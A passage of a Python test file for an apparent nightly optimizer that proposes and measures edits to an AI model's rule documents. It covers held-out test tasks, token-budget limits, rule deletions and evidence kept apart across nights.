    assert "test tasks under the accepted edits, used for no decision: 0.50 on 2" in learned.notes
    without = night(*usual())
    assert (learned.baseline, learned.candidate) == (without.baseline, without.candidate)
    assert [item.pairs for item in learned.candidates] == [item.pairs for item in without.candidates]


def test_test_tasks_that_could_not_be_measured_have_no_number() -> None:
    """Not measured is not 0."""
    learned = night(*usual(), task(8, "test"), script=acts(failing("refused", 8)))
    assert "test tasks under the accepted edits, used for no decision: not measured" in learned.notes


def test_without_an_accepted_edit_test_tasks_are_not_asked() -> None:
    """There is no final text."""
    backend = Scripted(script=acts(lambda _: Reply(text="npm")))
    night(*usual(), task(8, "test"), backend=backend)
    assert [request for request in backend.asked if request.ask == ASKS[8]] == []


def test_without_training_tasks_nothing_is_learned_and_nothing_asked() -> None:
    """What is held out never becomes training data."""
    backend = Scripted(script=acts())
    learned = night(*usual()[2:], task(8, "test"), backend=backend)
    assert (learned.reason, learned.baseline) == ("no_train", None)
    assert backend.asked == []


def test_where_everything_passes_already_the_baseline_is_told() -> None:
    """Nothing to propose; the mean over the held-out tasks is measured once."""
    backend = Scripted(script=acts())
    learned = night(*usual(), backend=backend, skill=document(SKILL, RULE), memory=ABSENT_MEMORY)
    assert (learned.reason, learned.baseline, learned.candidate) == ("no_edits", 1.0, None)
    assert asked(backend, "reflect") == []


def test_a_night_of_nothing_but_deletes_is_told_by_what_it_deletes() -> None:
    """A rule that did harm is taken out, and proven by the tasks that pass without it."""

    def hindered(request: Request) -> Reply:
        return Reply(text="npm" if "Use npm" in told(request) else "pnpm")

    script = acts(hindered, lambda _: edits({"op": "delete", "anchor": "Use npm"}))

    learned = night(*usual(), script=script, skill=document(SKILL, "Be brief", "Use npm"))

    assert found(learned) == [(SKILL, "Use npm", "strong")]
    assert learned.accepted[0].edits[0].id == edit_id("delete", SKILL, "Use npm", None)


# --- the budget --------------------------------------------------------------------------------------------------

NO_ROOM = CallFailed("budget", "budget.tokens is 10: 9 are spent")


def test_a_reflection_without_room_ends_the_night() -> None:
    """It is no failure of the optimizer: the wish waits, and what can be measured without a call is."""
    learned = night(*usual(), script=acts(optimizer=lambda _: NO_ROOM))

    assert (learned.reason, learned.candidates, learned.failures) == ("budget", (), ())
    assert learned.unfinished == {PNPM}
    assert any("budget.tokens is 10" in note and repr(RULE) in note for note in learned.notes)


def test_a_probe_without_room_asks_nothing_more() -> None:
    """Neither tasks nor rules; what was known stays known."""
    backend = Scripted(script=lambda _: None, health=NO_ROOM)
    learned = night(*usual(), backend=backend)
    assert (learned.reason, backend.asked, learned.replayed) == ("budget", [], ())
    assert learned.notes[-1] == f"nothing was asked of a model: {NO_ROOM.message}"


def test_an_unfinished_trial_is_no_candidate_and_nothing_is_missing() -> None:
    """One call of the second arm had no room; the others were answered, and another night has them."""

    def within(request: Request) -> Reply | CallFailed:
        second = request.sample.endswith("/1") and RULE in told(request)
        return NO_ROOM if second and request.ask == ASKS[3] else follows(request)

    learned = night(*usual(), script=acts(target=within))
    assert (learned.reason, learned.verdict, learned.candidates) == ("budget", None, ())
    assert learned.failures == ()


def test_with_one_rule_proven_the_night_is_one_of_success() -> None:
    """What came before the limit counts; means that had no room are left out and said."""
    tasks = (*usual(), task(5, "train", TICKET), task(6, "val", TICKET))

    def until(request: Request) -> Reply | CallFailed:
        return NO_ROOM if OTHER in told(request) else follows(request)

    learned = night(*tasks, script=acts(target=until))
    assert (learned.reason, learned.verdict) == ("improved", "strong")
    assert [item.edits[0].sentence for item in learned.accepted] == [RULE]
    assert learned.unfinished == {TICKET}


# --- samples and sessions over several nights --------------------------------------------------------------------

LATER = "20261201T030000Z-0000000b"


def recorded(learned: Learned, run: str, *before: Event) -> tuple[Event, ...]:
    stamp = Stamp(run=run, now=NOW, simulated=False)
    return (*before, *events_of(learned, stamp, None, 1))


def test_a_run_that_goes_on_asks_what_the_broken_one_asked_and_a_later_night_does_not() -> None:
    """What is asked anew each night has a sample that lasts until the night is recorded: nothing is paid twice, and
    nothing remembered counts again."""
    unread = acts(optimizer=lambda _: Reply(text="no JSON"))

    def lasting_samples(run: str, history: History) -> tuple[Learned, set[str]]:
        samples = set()
        for script in (acts(), unread):
            backend = Scripted(script=script, deterministic=False)
            ruled = tuple(replace(item, checks=(), rubric="It uses pnpm.") for item in usual())
            learned = night(
                *ruled, backend=backend, run=run, history=history, replay=Replay(dream_rollouts=2), memory=None
            )
            samples |= {item.sample for item in backend.asked if item.purpose != "probe"}
        return learned, {item for item in samples if item and not item.startswith(("x1-", "vote/"))}

    learned, first = lasting_samples(RUN, History())
    _, again = lasting_samples(LATER, History())
    _, later = lasting_samples(LATER, recall(recorded(learned, RUN), simulated=False))

    assert {item.partition("/")[2].partition("/")[0] for item in first} >= {"dream", "firmer"}
    assert again == first
    assert later
    assert not later & first


def test_what_the_optimizer_was_told_of_never_judges_the_rule() -> None:
    """Not on a later night either, when nothing is shown any more; the sessions are published as marks alone."""
    shown = task(8, "train", TICKET, ask=f"{ASKS[0]}, please", sessions=("shown",))
    twin, other = task(9, "val", sessions=("shown",)), task(10, "val")
    few: dict[str, Any] = {"gate": Gate(rollouts=2, pairs=20), "memory": None}
    learned = night(*usual()[:4], shown, backend=Scripted(script=acts(), deterministic=False), **few)
    (tried,) = [item for item in learned.candidates if item.edits[0].need == PNPM]
    assert tried.verdict == "suggestive"
    known: dict[str, Evidence] = {evidence_name(item): item for item in evidence_of(learned)}
    assert all(b"shown" not in evidence_bytes(item) for item in known.values())

    history = recall(recorded(learned, RUN), simulated=False)
    backend = Scripted(script=acts(), deterministic=False)
    second = night(
        *usual()[:4], shown, twin, other, backend=backend, history=history, evidence_of=known.get, run=LATER, **few
    )

    (further,) = [item for item in second.candidates if item.trial == tried.trial]
    assert tried.evidence is not None
    assert further.evidence is not None
    assert {row.task for row in further.evidence.tasks if row.night == LATER} >= {other.id}
    assert twin.id not in {row.task for row in further.evidence.tasks}
    assert further.evidence.numbers["told"] == known[evidence_name(tried.evidence)].numbers["told"]
